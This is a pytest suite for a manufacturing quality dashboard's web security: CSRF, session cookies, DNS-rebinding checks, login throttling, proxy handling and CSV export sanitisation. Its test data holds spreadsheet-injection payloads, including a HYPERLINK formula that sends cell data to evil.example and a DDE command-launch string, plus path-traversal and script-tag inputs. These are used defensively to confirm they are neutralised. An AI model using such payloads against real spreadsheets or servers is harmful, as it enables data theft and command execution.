"""The dashboard over real HTTP, without a browser and without a broker: sessions and cookies,
roles and CSRF, the traceability page and its downloads (made safe for spreadsheets), store
errors without internals, and the dashboard behind a TLS reverse proxy."""

from __future__ import annotations

import csv
import http.client
import io
import json
import logging
import socket
import urllib.parse
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from collector.config import Config, MqttSettings
from collector.dashboard.app import Dashboard
from collector.dashboard.records import EXPORTS, spreadsheet_safe
from collector.errors import StoreError
from collector.people.accounts import DashboardSettings
from collector.store.base import Row, Store
from tests.unit.dashboard_helpers import alert, block_line, record, users


class EmptyStore(Store):
    description = "empty"

    def ensure_database(self) -> None:
        pass

    def write_lines(self, lines: Sequence[str]) -> None:
        pass

    def iter_query(self, influxql: str) -> Iterator[Row]:
        return iter([])


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def dashboard() -> Iterator[Dashboard]:
    cfg = Config(mqtt=MqttSettings(port=closed_port(), reconnect_min_delay=5, reconnect_max_delay=5))
    dash = Dashboard(cfg, DashboardSettings(port=0, users=users(), shift_timezone="UTC"), EmptyStore())
    dash.start()
    try:
        yield dash
    finally:
        dash.stop()


class Browserless:
    """Requests as a page of the dashboard would send them (or a forger would), with a cookie jar."""

    def __init__(self, dash: Dashboard, **headers: str) -> None:
        self.dash = dash
        self.cookies: dict[str, str] = {}
        self.set_cookies: list[str] = []  # the Set-Cookie headers of the last answer
        self.headers = {"Host": f"127.0.0.1:{dash.port}", **{k.replace("_", "-"): v for k, v in headers.items()}}

    @property
    def cookie(self) -> str:
        return self.cookies.get(self.dash.cookie_name, "")

    def request(
        self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None
    ) -> tuple[int, dict[str, str], bytes]:
        conn = http.client.HTTPConnection("127.0.0.1", self.dash.port, timeout=10)
        try:
            h = {**self.headers, **(headers or {})}
            if self.cookies:
                h["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
            conn.request(method, path, body=body, headers=h)
            resp = conn.getresponse()
            self.set_cookies = resp.headers.get_all("Set-Cookie") or []
            for cookie in self.set_cookies:
                name, _, value = cookie.split(";", 1)[0].partition("=")
                if value and "Max-Age=0" not in cookie:
                    self.cookies[name] = value
                else:
                    self.cookies.pop(name, None)
            return resp.status, {k.lower(): v for k, v in resp.getheaders()}, resp.read()
        finally:
            conn.close()

    def login(self, name: str, password: str, headers: dict[str, str] | None = None) -> int:
        form = urllib.parse.urlencode({"name": name, "password": password, "next": "/"}).encode()
        form_type = {"Content-Type": "application/x-www-form-urlencoded"}
        return self.request("POST", "/login", form, {**form_type, **(headers or {})})[0]

    def csrf(self) -> str:
        status, _, body = self.request("GET", "/")
        assert status == 200
        marker = b'name="csrf-token" content="'
        start = body.index(marker) + len(marker)
        return body[start : body.index(b'"', start)].decode()


def test_pages_and_apis_need_a_session(dashboard: Dashboard) -> None:
    client = Browserless(dashboard)
    status, headers, _ = client.request("GET", "/trace?serial=A1")
    assert status == 303 and headers["location"] == "/login?next=%2Ftrace%3Fserial%3DA1"
    for path in ("/api/state", "/events", "/trace/export?format=csv&serial=A1"):
        assert client.request("GET", path)[0] == 401, path
    assert client.request("POST", "/alerts/r1/ack", b"{}", {"Content-Type": "application/json"})[0] == 401
    assert client.request("GET", "/login")[0] == 200
    assert client.request("GET", "/static/dashboard/dashboard.css")[0] == 200
    assert client.request("GET", "/static/dashboard/../../config.py")[0] == 404
    # a loopback-bound dashboard answers loopback names only (DNS rebinding)
    assert client.request("GET", "/login", headers={"Host": "evil.example"})[0] == 421


def test_sign_in_sets_a_strict_http_only_cookie(dashboard: Dashboard) -> None:
    client = Browserless(dashboard)
    assert client.login("sam", "wrong") == 401 and client.cookie == ""
    assert client.login("sam", "sam-pw") == 303
    cookie, device = client.set_cookies
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Path=/;" in cookie and "Secure" not in cookie
    assert cookie.startswith(dashboard.cookie_name + "=")
    # the browser is remembered for the sign-in throttle (see test_dashboard_auth)
    assert device.startswith(dashboard.device_cookie_name + "=") and "Path=/login;" in device
    assert "HttpOnly" in device and "SameSite=Strict" in device and "Max-Age=" in device
    status, _, body = client.request("GET", "/api/me")
    assert status == 200 and json.loads(body)["role"] == "supervisor"
    # a sign-in posted from another site is refused before the password is even looked at
    status, _, _ = client.request(
        "POST",
        "/login",
        urllib.parse.urlencode({"name": "sam", "password": "sam-pw"}).encode(),
        {"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://evil.example"},
    )
    assert status == 403


def test_acknowledging_needs_a_supervisor_and_a_same_origin_request(dashboard: Dashboard) -> None:
    json_ct = {"Content-Type": "application/json"}
    body = json.dumps({"comment": "x"}).encode()
    vera = Browserless(dashboard)
    assert vera.login("vera", "vera-pw") == 303
    token = vera.csrf()
    status, _, answer = vera.request("POST", "/alerts/r1/ack", body, {**json_ct, "X-CSRF-Token": token})
    assert status == 403 and "supervisor" in json.loads(answer)["error"]

    sam = Browserless(dashboard)
    assert sam.login("sam", "sam-pw") == 303
    token = sam.csrf()
    status, _, answer = sam.request("POST", "/alerts/r1/ack", body, json_ct)
    assert status == 403 and "CSRF" in json.loads(answer)["error"]
    status, _, _ = sam.request("POST", "/alerts/r1/ack", body, {**json_ct, "X-CSRF-Token": vera.csrf()})
    assert status == 403  # another session's token does not do
    status, _, _ = sam.request(
        "POST", "/alerts/r1/ack", body, {**json_ct, "X-CSRF-Token": token, "Sec-Fetch-Site": "cross-site"}
    )
    assert status == 403
    status, _, answer = sam.request(
        "POST",
        "/alerts/r1/ack",
        body,
        {**json_ct, "X-CSRF-Token": token, "Origin": f"http://127.0.0.1:{dashboard.port}"},
    )
    assert status == 404 and "no such alert" in json.loads(answer)["error"]  # allowed; the alert is unknown

    # signing out needs the token too, then the session is gone
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert sam.request("POST", "/logout", b"", form)[0] == 403
    status, headers, _ = sam.request("POST", "/logout", urllib.parse.urlencode({"csrf": token}).encode(), form)
    assert status == 303 and headers["location"] == "/login?bye=1"
    assert sam.request("GET", "/api/me")[0] == 401


def test_the_trace_page_searches_and_exports(dashboard: Dashboard) -> None:
    client = Browserless(dashboard)
    client.login("vera", "vera-pw")
    status, _, body = client.request("GET", "/trace")
    assert status == 200 and b"at least one criterion" in body
    status, _, body = client.request("GET", "/trace?serial=%3Cscript%3E")
    assert status == 200 and b"0 record(s)" in body and b"<script>" not in body
    status, _, body = client.request("GET", "/trace?from=yesterday")
    assert status == 200 and b"from/to must be" in body
    status, headers, body = client.request("GET", "/trace/export?format=csv&serial=A1")
    assert status == 200 and headers["content-type"].startswith("text/csv")
    assert headers["content-disposition"].startswith('attachment; filename="trace-A1.csv"')
    assert body.decode().startswith("recorded_at,kind,serial")
    assert client.request("GET", "/trace/export?format=xlsx&serial=A1")[0] == 400
    assert client.request("GET", "/trace/export?format=json")[0] == 400  # no criterion


def test_live_messages_alerts_and_blocks_are_taken_in_and_the_malformed_counted() -> None:
    dash = Dashboard(
        Config(mqtt=MqttSettings(port=closed_port())), DashboardSettings(shift_timezone="UTC"), EmptyStore()
    )
    try:
        dash.handle_message("qc/s/l/st-10/alert", json.dumps(alert("r9")).encode(), retained=True)
        dash.handle_message("qc/s/l/st-10/alert", b"{broken")  # counted, not fatal
        dash.handle_message("qc/s/l/st-10/record", block_line(record(1), record(2)))
        dash.handle_message("qc/s/l/st-10/record", json.dumps(record(3)).encode())  # not a block: counted
        dash.handle_message("qc/gateways/gw-1/status", json.dumps({"state": "online"}).encode())
        dash.handle_message("other/s/l/st-10/alert", json.dumps(alert("x1")).encode())  # another prefix
        # acknowledgements read back from the store: tests/store/test_dashboard_records.py
        (only,) = dash.state.snapshot()[1]["alerts"]
        assert only["retained"] and only["ack"] is None
        assert dash.state.malformed == 2
        assert [r["id"] for r in dash.state.snapshot()[1]["stations"][0]["records"]] == ["r2", "r1"]
    finally:
        dash.stop()


# -- downloads: CSV injection -----------------------------------------------------------------------


def start(store: Store, **settings: Any) -> Dashboard:
    cfg = Config(mqtt=MqttSettings(port=closed_port(), reconnect_min_delay=5, reconnect_max_delay=5))
    dash = Dashboard(cfg, DashboardSettings(port=0, users=users(), shift_timezone="UTC", **settings), store)
    dash.start()
    return dash


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    """The dashboard's CSV download (``/trace/export?format=csv``) writes through ``EXPORTS``;
    the HTTP path itself is exercised against a real InfluxDB in the pipeline tests."""
    hostile = record(
        1,
        serial="+HX1",
        operator='=HYPERLINK("http://evil.example/?"&A1,"click")',
        reason="@SUM(1+1)*cmd|' /C calc'!A0",
        lot="\tlot-1",
        work_order="-2+3",
        deviation="-0.015",
        lsl="-0.5",
    )
    out = io.StringIO()
    EXPORTS["csv"].write([hostile], out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["operator"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["reason"].startswith("'@SUM") and row["serial"] == "'+HX1"
    assert not row["lot"].startswith("\t")  # the trace CSV writes control characters visibly
    assert row["work_order"] == "'-2+3"
    assert (row["deviation"], row["lsl"]) == ("-0.015", "-0.5")  # plain numbers stay numbers
    for value in row.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # the JSON download is the evidence as it is
    out = io.StringIO()
    EXPORTS["json"].write([hostile], out)
    assert json.loads(out.getvalue())[0]["operator"].startswith("=HYPERLINK")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("-0.012", "-0.012"),
        ("1e-3", "1e-3"),
        ("-1e3+cmd", "'-1e3+cmd"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


# -- store errors ------------------------------------------------------------------------------------


class DownStore(EmptyStore):
    def iter_query(self, influxql: str) -> Iterator[Row]:
        raise StoreError("query to http://influx-7.plant.internal:8086/query?db=quality failed: connection refused")


def test_store_errors_reach_the_log_not_the_viewer(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "collector.dashboard")
    dash = start(DownStore())
    try:
        client = Browserless(dash)
        client.login("vera", "vera-pw")
        answers = [
            client.request("GET", "/trace?serial=HX1"),
            client.request("GET", "/trace/export?format=csv&serial=HX1"),
            client.request("GET", "/trace/report?serial=HX1"),
        ]
    finally:
        dash.stop()
    page, export, report = answers
    assert page[0] == 200 and b"evidence store did not answer" in page[2]
    assert export[0] == report[0] == 502 and b"evidence store did not answer" in export[2]
    for _, _, body in answers:
        assert b"influx-7" not in body and b"8086" not in body and b"http://influx" not in body
    assert "influx-7.plant.internal:8086" in caplog.text  # the operator finds the detail in the log


# -- behind a TLS reverse proxy ----------------------------------------------------------------------

PROXIED = {
    "X_Forwarded_Host": "dash.plant.example",
    "X_Forwarded_Proto": "https",
    "X_Forwarded_For": "10.1.1.1",
    "Origin": "https://dash.plant.example",
    "Sec_Fetch_Site": "same-origin",
}


def test_behind_an_untrusted_proxy_forwarded_headers_are_ignored() -> None:
    dash = start(EmptyStore())
    try:
        # what broke behind the documented proxy: the browser's origin is the proxy's name
        assert Browserless(dash, **PROXIED).login("sam", "sam-pw") == 403
        # and a proxy passing the browser's Host on is refused as DNS rebinding
        assert Browserless(dash, Host="dash.plant.example").request("GET", "/login")[0] == 421
    finally:
        dash.stop()


def test_behind_a_trusted_proxy_the_forwarded_host_scheme_and_address_count(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.INFO, "collector.dashboard")
    dash = start(EmptyStore(), trusted_proxies=["127.0.0.1"])
    try:
        sam = Browserless(dash, **PROXIED)
        assert sam.login("sam", "sam-pw") == 303
        assert all("; Secure" in c for c in sam.set_cookies)  # the browser spoke https to the proxy
        assert "sam signed in (supervisor) from 10.1.1.1" in caplog.text
        token = sam.csrf()
        status, _, answer = sam.request(
            "POST", "/alerts/r1/ack", b"{}", {"Content-Type": "application/json", "X-CSRF-Token": token}
        )
        assert status == 404 and "no such alert" in json.loads(answer)["error"]  # past the origin check
        # another site's page is still another origin, forwarded or not
        evil = Browserless(dash, **{**PROXIED, "Origin": "https://evil.example"})
        assert evil.login("sam", "sam-pw") == 403
        # the proxy may pass the browser's Host on too
        assert Browserless(dash, **{**PROXIED, "Host": "dash.plant.example"}).request("GET", "/login")[0] == 200
        # a browser on this host, not through the proxy, still gets the rebinding check
        assert Browserless(dash, Host="evil.example").request("GET", "/login")[0] == 421
    finally:
        dash.stop()


def test_behind_a_trusted_proxy_the_throttle_tells_clients_apart() -> None:
    dash = start(EmptyStore(), trusted_proxies=["127.0.0.1"])
    slept: list[float] = []
    dash.auth.sleep = slept.append
    try:
        guesser = Browserless(dash, **{**PROXIED, "X_Forwarded_For": "10.6.6.6"})
        for _ in range(dash.auth.throttle.free_per_user + 2):
            assert guesser.login("sam", "guess") == 401
        assert slept == [1, 2]  # the guesser is slowed down...
        assert Browserless(dash, **PROXIED).login("sam", "sam-pw") == 303
        assert slept == [1, 2]  # ...and sam, at another address behind the same proxy, is not
    finally:
        dash.stop()


def test_wrong_passwords_under_a_name_do_not_lock_its_owner_out() -> None:
    dash = start(EmptyStore())
    slept: list[float] = []
    dash.auth.sleep = slept.append  # the delays are asserted, not waited out
    try:
        mallory = Browserless(dash)
        for _ in range(12):  # the old throttle refused sam's own right password after 10 of these
            assert mallory.login("sam", "guess") == 401
        sam = Browserless(dash)
        assert sam.login("sam", "sam-pw") == 303
        assert sam.request("GET", "/api/me")[0] == 200
        assert slept and max(slept) == slept[-1]  # slowed down, then let in
    finally:
        dash.stop()
